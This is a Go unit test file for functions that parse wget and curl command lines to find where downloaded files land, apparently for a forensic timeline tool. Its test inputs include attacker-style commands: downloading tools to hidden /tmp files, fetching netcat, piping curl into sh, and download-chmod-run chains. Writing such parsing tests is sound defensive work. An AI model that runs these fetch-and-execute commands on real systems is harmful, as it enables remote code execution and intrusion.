package timeline

import "testing"

func TestDownloadTarget(t *testing.T) {
	for _, c := range []struct {
		args []string
		cwd  string
		want string
	}{
		{[]string{"wget", "-q", "-O", "/var/www/html/data/rates.json", "http://127.0.0.1:8000/rates.json"}, "/", "/var/www/html/data/rates.json"},
		{[]string{"wget", "-q", "http://10.0.0.5/sysmon", "-O", "/tmp/.sysd"}, "/", "/tmp/.sysd"},
		{[]string{"wget", "http://10.0.0.5/a/kit.tgz?x=1"}, "/tmp", "/tmp/kit.tgz"},
		{[]string{"wget", "--output-document=/dev/shm/x", "http://h/"}, "/", "/dev/shm/x"},
		{[]string{"curl", "-fsS", "-o", "plugin.tgz", "http://h/p.tgz"}, "/tmp", "/tmp/plugin.tgz"},
		{[]string{"curl", "-so/tmp/.x", "http://h/x"}, "/", ""}, // -so…: a cluster, not -o's value: unknown
		{[]string{"curl", "-O", "http://h/tools/nc"}, "/var/tmp", "/var/tmp/nc"},
		{[]string{"curl", "-s", "http://h/x.sh"}, "/tmp", ""}, // to stdout
		{[]string{"curl", "-o", "-", "http://h/x"}, "/tmp", ""},
		{[]string{"wget", "-O", "rel"}, "", ""},
	} {
		if got := downloadTarget(c.args, c.cwd); got != c.want {
			t.Errorf("downloadTarget(%q, %q) = %q, want %q", c.args, c.cwd, got, c.want)
		}
	}
}

func TestShellDownload(t *testing.T) {
	for _, c := range []struct {
		args []string
		want string
	}{
		{[]string{"/bin/sh", "-c", "wget -q -O /var/www/html/data/rates.json http://127.0.0.1:8000/rates.json"}, "/var/www/html/data/rates.json"},
		{[]string{"sh", "-c", "curl -so /tmp/.x http://h/x; chmod +x /tmp/.x; /tmp/.x"}, ""}, // more than a download
		{[]string{"sh", "-c", "curl -s http://h/x | sh"}, ""},
		{[]string{"sh", "-c", "id"}, ""},
		{[]string{"bash"}, ""},
	} {
		if got := shellDownload(c.args, "/"); got != c.want {
			t.Errorf("shellDownload(%q) = %q, want %q", c.args, got, c.want)
		}
	}
}
